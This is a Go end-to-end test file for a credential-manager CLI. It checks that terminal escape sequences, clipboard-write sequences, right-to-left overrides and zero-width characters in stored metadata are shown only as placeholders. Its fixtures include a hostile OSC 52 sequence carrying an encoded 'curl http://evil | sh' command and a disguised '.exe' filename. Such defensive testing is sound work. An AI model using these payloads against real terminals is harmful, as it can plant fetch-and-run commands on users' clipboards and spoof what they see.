package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/credwiz/credwiz/connectors"
	"github.com/credwiz/credwiz/connectors/connectortest"
	"github.com/credwiz/credwiz/store"
)

// Terminal injection, end to end: texts from the metadata file and from a
// vendor's answer hold what a terminal would obey (a window title, clear
// screen, a clipboard write) or what disguises text (a right-to-left
// override, zero-width characters). credwiz runs on a pseudo-terminal
// made by script(1), and what reaches the terminal must hold none of it.

// Hostile texts: each must reach the terminal only as placeholders.
const (
	oscTitle  = "\x1b]0;owned-title\x07"
	clearScr  = "\x1b[2J\x1b[H"
	osc52     = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\x07"
	rlo       = "\u202e"
	zeroWidth = "\u200b\u200d\u2060\ufeff"
)

// rawSequences are what must not reach the terminal as they are (the
// sandbox sets NO_COLOR, so credwiz writes no escape sequence of its own).
var rawSequences = []string{"\x1b", "\x07", "\u009b", "\u009d", rlo, "\u2066", "\u200b", "\u200d", "\u2060", "\ufeff", "\u2028"}

// requireScript skips the test loudly when util-linux script is missing,
// or fails it when CREDWIZ_REQUIRE_KEYCHAIN=1.
func requireScript(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("script"); err != nil {
		skipOrFail(t, "SCRIPT(1)", err, "install util-linux (bsdutils on Debian)")
	}
}

// runPTY runs the binary on a 160×40 pseudo-terminal (script -qc) in the
// sandbox and returns everything written to the terminal.
func (s *sandbox) runPTY(args ...string) (string, int) {
	s.t.Helper()
	q := []string{shellQuote(credwizBin)}
	for _, a := range args {
		q = append(q, shellQuote(a))
	}
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, "script", "-q", "-e", "-E", "never", "-c",
		"stty cols 160 rows 40 2>/dev/null; exec "+strings.Join(q, " "), "/dev/null")
	cmd.Env = append(slices.Clone(s.env), "SHELL=/bin/sh", "TERM=xterm-256color")
	cmd.Dir = s.root
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.WaitDelay = 5 * time.Second
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case ctx.Err() != nil:
		s.t.Fatalf("credwiz %s on a pty did not finish within %s:\n%q", quoteArgs(args), runTimeout, out.String())
	case errors.As(err, &ee):
		return out.String(), ee.ExitCode()
	case err != nil:
		s.t.Fatalf("script -c credwiz %s: %v", quoteArgs(args), err)
	}
	return out.String(), 0
}

// assertNoRaw fails when out holds any of rawSequences, and unless it
// holds every one of the placeholders want.
func assertNoRaw(t *testing.T, what, out string, want ...string) {
	t.Helper()
	for _, seq := range rawSequences {
		if strings.Contains(out, seq) {
			t.Errorf("%s wrote %q raw to the terminal:\n%q", what, seq, out)
		}
	}
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("%s: the terminal shows no %q:\n%q", what, w, out)
		}
	}
}

// editIndex rewrites credentials.json: fn changes the credential called
// name, decoded as a JSON object (so the test writes what any program
// could, not what credwiz would).
func editIndex(t *testing.T, sb *sandbox, name string, fn func(c map[string]any)) {
	t.Helper()
	path := filepath.Join(sb.configDir, store.IndexFile)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	list, _ := doc["credentials"].([]any)
	found := false
	for _, x := range list {
		if c, ok := x.(map[string]any); ok && c["name"] == name {
			fn(c)
			found = true
		}
	}
	if !found {
		t.Fatalf("%s has no credential %q: %s", path, name, raw)
	}
	out, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, out, 0o600); err != nil {
		t.Fatal(err)
	}
}

// addIndexEntry appends credential c to credentials.json.
func addIndexEntry(t *testing.T, sb *sandbox, c map[string]any) {
	t.Helper()
	path := filepath.Join(sb.configDir, store.IndexFile)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	list, _ := doc["credentials"].([]any)
	doc["credentials"] = append(list, c)
	out, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, out, 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestE2ETerminalInjection runs list, show, test and shell completion on
// a terminal against a saved Drift credential whose description and last
// test account hold escape sequences, OSC 52, a right-to-left override
// and zero-width characters, and whose vendor answers with an org id
// holding the same; --json keeps them exact.
func TestE2ETerminalInjection(t *testing.T) {
	requireScript(t)
	t.Parallel()
	c, _ := connectors.Lookup("drift")
	em := startEmulator(t, c.ID)
	sb := newSandbox(t, fileStore)
	name := credName(t, "tty")
	fields, secrets := split(c, em.Values())
	sb.must(stdinLines(secrets), addArgs(c.ID, name, fields, "--secrets-stdin", "--description", "plain")...)
	sb.must("", "test", name)

	desc := "ops" + oscTitle + clearScr + osc52 + rlo + "gpj.exe" + zeroWidth
	account := "Drift org 1" + rlo + "42" + oscTitle + zeroWidth
	editIndex(t, sb, name, func(cr map[string]any) {
		cr["description"] = desc
		cr["last_test"].(map[string]any)["account"] = account
	})
	// A second entry, as another program could write it: its name and
	// connector hold a title sequence, an override, a tab and a newline
	// (which would forge a completion description or candidate).
	evilName := "e2e-evil" + oscTitle + rlo + "\tforged\nline"
	addIndexEntry(t, sb, map[string]any{
		"name": evilName, "connector": "drift" + osc52,
		"created_at": "2026-01-01T00:00:00Z", "updated_at": "2026-01-01T00:00:00Z", "secrets_updated_at": "2026-01-01T00:00:00Z",
	})

	for _, args := range [][]string{
		{"list"},
		{"show", name},
		{"__complete", "show", ""},
		{"__complete", "test", "e2e-"},
	} {
		out, code := sb.runPTY(args...)
		if code != 0 {
			t.Errorf("credwiz %s: exit %d:\n%q", quoteArgs(args), code, out)
		}
		want := []string{name, "e2e-evil␛]0;owned-title␇<U+202E>␉forged␊line"}
		if args[0] == "show" {
			want = []string{name, "<U+202E>"}
		}
		if args[0] == "__complete" {
			want = append(want, "drift␛]52;c;")
		}
		if args[0] == "show" {
			want = append(want, "␛]0;owned-title␇", "␛[2J", "␛]52;c;", "<U+200B>", "<U+FEFF>")
		}
		assertNoRaw(t, "credwiz "+quoteArgs(args), out, want...)
	}

	// The vendor's own answer, live: the org id is what Drift sent.
	em.(*connectortest.Drift).SetOrg("7" + rlo + "42" + zeroWidth + "\x1b]0;t\x07")
	out, code := sb.runPTY("test", name)
	if code != 0 {
		t.Errorf("credwiz test on a pty: exit %d:\n%q", code, out)
	}
	assertNoRaw(t, "credwiz test", out, "Drift org 7<U+202E>42<U+200B>")

	// --json keeps every value exact (escaped, so still nothing raw).
	var creds []credJSON
	r := sb.must("", "list", "--json")
	decodeJSON(t, r, &creds)
	got, _ := find(creds, name)
	if got.Description != desc {
		t.Errorf("list --json description = %q, want %q", got.Description, desc)
	}
	if got.LastTest == nil || !strings.Contains(got.LastTest.Account, "7"+rlo+"42") {
		t.Errorf("list --json last_test = %+v, want the vendor's org id with its override", got.LastTest)
	}
	out, _ = sb.runPTY("list", "--json")
	assertNoRaw(t, "credwiz list --json", out, `\u202e`, `\u001b]0;owned-title\u0007`)
}

// TestE2EErrorLineNeutralized: main's error line goes through the
// sanitizer too; here the error names a config dir whose path holds an
// escape sequence and an override.
func TestE2EErrorLineNeutralized(t *testing.T) {
	requireScript(t)
	t.Parallel()
	sb := newSandbox(t, fileStore)
	bad := filepath.Join(sb.root, "cfg"+oscTitle+rlo)
	if err := os.WriteFile(bad, []byte("not a directory"), 0o600); err != nil {
		t.Fatal(err)
	}
	for i, kv := range sb.env {
		if strings.HasPrefix(kv, "CREDWIZ_CONFIG_DIR=") {
			sb.env[i] = "CREDWIZ_CONFIG_DIR=" + filepath.Join(bad, "sub")
		}
	}
	out, code := sb.runPTY("list")
	if code == 0 {
		t.Fatalf("list with a config dir under a file: exit 0:\n%q", out)
	}
	assertNoRaw(t, "credwiz list's error", out)
	if !strings.Contains(out, "cfg") {
		t.Errorf("the error does not name the config dir: %q", out)
	}
}

// TestE2EDescriptionAndByteOrderMark: --description refuses bidi,
// zero-width and control characters with one line naming the field and
// the character; a UTF-8 byte order mark before --secrets-stdin's first
// line (as Windows editors write) is skipped.
func TestE2EDescriptionAndByteOrderMark(t *testing.T) {
	t.Parallel()
	c, _ := connectors.Lookup("drift")
	em := startEmulator(t, c.ID)
	sb := newSandbox(t, fileStore)
	fields, secrets := split(c, em.Values())
	for _, tc := range []struct{ desc, want string }{
		{"prod" + rlo + "gpj.exe", "U+202E"},
		{"a\u2066b", "U+2066"},
		{"zero\u200bwidth", "U+200B"},
		{"title" + oscTitle, "U+001B"},
		{"line\u2028separator", "U+2028"},
	} {
		r := sb.run(stdinLines(secrets), addArgs(c.ID, credName(t, "desc"), fields, "--secrets-stdin", "--description", tc.desc)...)
		if r.code != 2 || !strings.Contains(r.stderr, "--description") || !strings.Contains(r.stderr, tc.want) {
			t.Errorf("description %q: want exit 2 naming --description and %s:\n%s", tc.desc, tc.want, r)
		}
		oneLine(t, "stderr", r, r.stderr)
	}
	if creds := sb.list(); len(creds) != 0 {
		t.Errorf("refused descriptions saved %v", names(creds))
	}
	name := credName(t, "bom")
	r := sb.run("\ufeff"+stdinLines(secrets), addArgs(c.ID, name, fields, "--secrets-stdin")...)
	if r.code != 0 {
		t.Fatalf("a BOM before the first line of --secrets-stdin: want exit 0:\n%s", r)
	}
	if _, ok := find(sb.list(), name); !ok {
		t.Errorf("not saved: %v", names(sb.list()))
	}
}
